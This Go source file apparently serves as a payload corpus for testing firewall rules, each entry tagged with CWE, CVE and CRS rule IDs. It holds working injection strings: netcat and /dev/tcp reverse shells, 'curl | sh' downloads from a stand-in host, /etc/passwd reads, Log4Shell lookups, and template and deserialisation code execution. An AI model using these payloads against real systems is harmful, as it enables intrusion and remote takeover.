package attack

// commands are run by a shell that an application calls.
func commands() group {
	return group{"command", "Command injection", "CWE-78", []entry{
		{"semicolon", "Appends a command", "CAPEC-88; CRS 932", query("host", "example.com; cat /etc/hostname")},
		{"pipe", "Pipes into one", "CAPEC-88; CRS 932", query("host", "example.com | nc 203.0.113.9 4444 -e /bin/sh")},
		{"and", "Runs another if the first worked", "CAPEC-88; CRS 932", query("host", "example.com && wget http://203.0.113.9/tw.sh -O /tmp/tw.sh")},
		{"or", "Runs another if it did not", "CAPEC-88; CRS 932", query("host", "|| curl http://203.0.113.9/tw | sh")},
		{"backticks", "In backticks", "CAPEC-88; CRS 932", query("host", "`cat /etc/hostname`.tw.example.invalid")},
		{"substitution", "In brackets", "CAPEC-88; CRS 932", query("host", "$(whoami).tw.example.invalid")},
		{"newline", "On a line of its own", "CAPEC-88; CRS 932", query("host", "example.com\n/bin/cat /etc/passwd")},
		{"ifs", "With a variable in place of blanks", "CAPEC-88; CRS 932", query("host", ";cat${IFS}/etc/hostname")},
		{"quotes-within", "With quotes within the words", "CAPEC-88; CRS 932", query("host", `;c'a't /e"t"c/pass'w'd`)},
		{"wildcards", "With wildcards for the letters", "CAPEC-88; CRS 932", query("host", ";/???/c?t /???/p?ss??")},
		{"reverse-shell", "Opens a way back in", "CAPEC-88; CRS 932", query("host", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")},
		{"python", "Through another language", "CAPEC-88; CRS 932", query("host", `;python3 -c 'import os;os.system("id")'`)},
		{"powershell", "On Windows", "CAPEC-88; CRS 932", query("host", "example.com & powershell -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA")},
		{"windows-for", "On Windows, in a loop", "CAPEC-88; CRS 932", query("host", `example.com & for /f %i in ('whoami') do nslookup %i.tw.example.invalid`)},
		{"shellshock", "A function in a field that becomes an environment", "CVE-2014-6271; CRS 932170", get("/cgi/status").with("User-Agent", "() { :; }; /bin/cat /etc/hostname")},
		{"json", "In a JSON document", "CAPEC-88; CRS 932", document(`{"host":"example.com; cat /etc/passwd"}`)},
		{"php-code", "A line of PHP", "CAPEC-242; CRS 933", query("calc", "<?php system($_GET['c']); ?>")},
		{"php-function", "A call of PHP", "CAPEC-242; CRS 933", query("calc", "1;shell_exec('id')")},
		{"php-variable", "Overwrites a variable of PHP's", "CAPEC-77; CRS 933", query("_SESSION[admin]", "$_SERVER['DOCUMENT_ROOT']")},
		{"node-require", "A call of Node.js", "CAPEC-242; CRS 934", query("calc", "require('child_process').execSync('id')")},
		{"node-prototype", "Changes what all objects inherit", "CAPEC-77; CRS 934130", document(`{"__proto__":{"isAdmin":true}}`)},
		{"node-prototype-field", "The same in a form", "CAPEC-77; CRS 934130", form("constructor[prototype][isAdmin]", "true")},
		{"ruby", "A call of Ruby", "CAPEC-242; CRS 934150", query("calc", "Process.spawn('id')")},
	}}
}

// templates are evaluated on the server.
func templates() group {
	return group{"template", "Server-side template injection", "CWE-1336", []entry{
		{"jinja-globals", "Python: reaches the operating system through an object", "CAPEC-242; CRS 934", query("name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")},
		{"freemarker", "Java: runs a command from a template", "CAPEC-242; CRS 944", query("name", `<#assign c="freemarker.template.utility.Execute"?new()>${c("id")}`)},
		{"velocity", "Java: reaches the runtime through a class", "CAPEC-242; CRS 944", query("name", `#set($r=$x.class.forName("java.lang.Runtime").getRuntime().exec("id"))`)},
		{"spring", "Java: an expression of Spring's", "CVE-2022-22963; CRS 944", query("name", "T(java.lang.Runtime).getRuntime().exec('id')")},
		{"ognl", "Java: an expression of Struts'", "CVE-2017-5638; CRS 944", get("/").with("Content-Type", "%{(#nike='multipart/form-data').(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}")},
		{"ejs", "Node.js: reaches a module from a template", "CAPEC-242; CRS 934", query("name", "<%= global.process.mainModule.require('child_process').execSync('id') %>")},
		{"erb", "Ruby: a line of it in a template", "CAPEC-242; CRS 932", query("name", "<%= `cat /etc/passwd` %>")},
		{"smarty", "PHP: a block of it in a template", "CAPEC-242; CRS 933", query("name", "{php}system('id');{/php}")},
		{"twig", "PHP: has a filter call a function", "CAPEC-242; CRS 933", query("name", "{{['cat /etc/passwd']|filter('system')}}")},
	}}
}

// lookups have a logger fetch and run a class.
func lookups() group {
	return group{"jndi", "Lookup in a logged text", "CWE-917", []entry{
		{"ldap", "In a search", "CVE-2021-44228; CRS 944150", query("q", "${jndi:ldap://tw.example.invalid/a}")},
		{"rmi", "Over another protocol", "CVE-2021-44228; CRS 944150", query("q", "${jndi:rmi://tw.example.invalid:1099/a}")},
		{"user-agent", "In the browser's name", "CVE-2021-44228; CRS 944150", get("/").with("User-Agent", "${jndi:dns://tw.example.invalid/a}")},
		{"header", "In a field that is often logged", "CVE-2021-44228; CRS 944150", get("/").with("X-Api-Version", "${jndi:ldap://tw.example.invalid/a}")},
		{"nested-lower", "With each letter looked up by itself", "CVE-2021-44228; CRS 944150", query("q", "${${lower:j}${lower:n}di:ldap://tw.example.invalid/a}")},
		{"nested-default", "With letters as the defaults of nothing", "CVE-2021-44228; CRS 944150", query("q", "${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://tw.example.invalid/a}")},
		{"nested-environment", "With letters from the environment", "CVE-2021-44228; CRS 944150", document(`{"name":"${${env:TW:-j}ndi:ldap://tw.example.invalid/a}"}`)},
	}}
}

// deserialisation brings objects that do something when they are made.
func deserialisation() group {
	return group{"object", "Deserialisation of untrusted data", "CWE-502", []entry{
		{"php", "PHP: an object in a field", "CAPEC-586; CRS 933170", query("basket", `O:7:"Cleaner":1:{s:4:"path";s:8:"/tmp/tw/";}`)},
		{"php-cookie", "PHP: likewise in a cookie", "CAPEC-586; CRS 933170", get("/").with("Cookie", `basket=O:7:"Cleaner":0:{}`)},
		{"java-class", "Java: a class that is known for it", "CAPEC-586; CRS 944", document(`{"@type":"org.apache.commons.collections.functors.InvokerTransformer","m":"java.lang.Runtime.exec"}`)},
		{"java-xml", "Java: an object that XML makes", "CAPEC-586; CRS 944", post("application/xml", `<java><object class="java.lang.ProcessBuilder"><void method="start"/></object></java>`)},
		{"node", "Node.js: a function in JSON that is called at once", "CAPEC-586; CRS 934100", document(`{"user":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`)},
		{"yaml-python", "Python: a document that calls a function", "CAPEC-586; CRS 932, 934", form("settings", "!!python/object/apply:os.system ['cat /etc/passwd']")},
	}}
}
